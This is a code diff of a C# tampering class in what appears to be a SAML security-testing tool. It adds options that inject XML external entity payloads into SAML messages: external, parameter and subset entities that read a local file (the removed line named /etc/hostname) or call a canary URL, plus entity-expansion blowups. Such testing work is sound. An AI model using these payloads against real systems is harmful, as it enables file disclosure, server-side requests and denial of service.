@@ -16,11 +16,12 @@ internal sealed class Doctype(TamperingArguments arguments) : Tampering
             "Writes a document type declaration in front of the root, which no SAML message may have.",
             "The declaration stands in the message; harmless: the signatures still verify.",
             [
-                new("kind", "Empty; an unused internal entity; an external entity read from a file or from the canary; a "
-                    + "parameter entity from the canary; an external subset from the canary; nested entities; one long "
+                new("kind", "Empty; an unused internal entity; an external entity, a parameter entity or an external subset, "
+                    + "from a file or from the canary; nested entities; one long "
                     + "entity many times; XInclude and schemaLocation instead of a declaration.",
                 [
-                    "harmless", "internal-entity", "file", "canary", "parameter-entity-canary", "external-subset-canary",
+                    "harmless", "internal-entity", "file", "canary", "parameter-entity-file", "parameter-entity-canary",
+                    "external-subset-file", "external-subset-canary",
                     "expansion", "quadratic", "xinclude-canary", "schema-location-canary",
                 ]),
                 new("expanded", "How many characters expansion and quadratic come to, at most 1048576.", null),
@@ -74,7 +75,7 @@ internal sealed class Doctype(TamperingArguments arguments) : Tampering
         }
 
         var root = text.IndexOf($"<{work.Root.Name}", StringComparison.Ordinal);
-        var (declaration, reference) = Declaration(work.Context);
+        var (declaration, reference) = Declaration(work);
         return $"{text[..root]}<!DOCTYPE {work.Root.Name}{declaration}>"
             + text[root..].Replace(Token, reference, StringComparison.Ordinal);
     }
@@ -84,13 +85,15 @@ internal sealed class Doctype(TamperingArguments arguments) : Tampering
         .FirstOrDefault(element => element.LocalName == "AttributeValue")
         ?? Dom.Descendants(work.Root).First(element => element.LocalName == "NameID");
 
-    private (string Declaration, string Reference) Declaration(ForgeContext context) => Kind switch
+    private (string Declaration, string Reference) Declaration(Workpiece work) => Kind switch
     {
         "internal-entity" => (" [<!ENTITY unused \"unused\">]", ""),
-        "file" => (" [<!ENTITY x SYSTEM \"file:///etc/hostname\">]", "&x;"),
-        "canary" => ($" [<!ENTITY x SYSTEM \"{Canary.Url(context, "entity")}\">]", "&x;"),
-        "parameter-entity-canary" => ($" [<!ENTITY % x SYSTEM \"{Canary.Url(context, "parameter-entity")}\"> %x;]", ""),
-        "external-subset-canary" => ($" SYSTEM \"{Canary.Url(context, "subset")}\"", ""),
+        "file" => ($" [<!ENTITY x SYSTEM \"{Canary.FileUrl(work)}\">]", "&x;"),
+        "parameter-entity-file" => ($" [<!ENTITY % x SYSTEM \"{Canary.FileUrl(work)}\"> %x;]", ""),
+        "external-subset-file" => ($" SYSTEM \"{Canary.FileUrl(work)}\"", ""),
+        "canary" => ($" [<!ENTITY x SYSTEM \"{Canary.Url(work.Context, "entity")}\">]", "&x;"),
+        "parameter-entity-canary" => ($" [<!ENTITY % x SYSTEM \"{Canary.Url(work.Context, "parameter-entity")}\"> %x;]", ""),
+        "external-subset-canary" => ($" SYSTEM \"{Canary.Url(work.Context, "subset")}\"", ""),
         "expansion" => Expansion(),
         "quadratic" => Quadratic(),
         _ => (" []", ""),
